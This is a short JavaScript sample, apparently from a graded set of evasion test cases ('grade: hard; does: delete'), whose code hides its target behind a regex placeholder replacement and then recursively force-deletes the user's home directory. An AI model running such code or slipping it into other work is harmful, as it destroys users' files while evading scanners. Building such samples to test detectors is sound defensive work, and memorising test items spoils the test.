// evasion: a [target] placeholder replaced through a regex with escaped brackets by the home directory held in a name
// grade: hard; does: delete
const fsp = require("fs/promises");
const os = require("os");
const home = os.homedir();
const target = "[target]".replace(/\[target\]/g, home);
fsp.rm(target, { recursive: true, force: true });
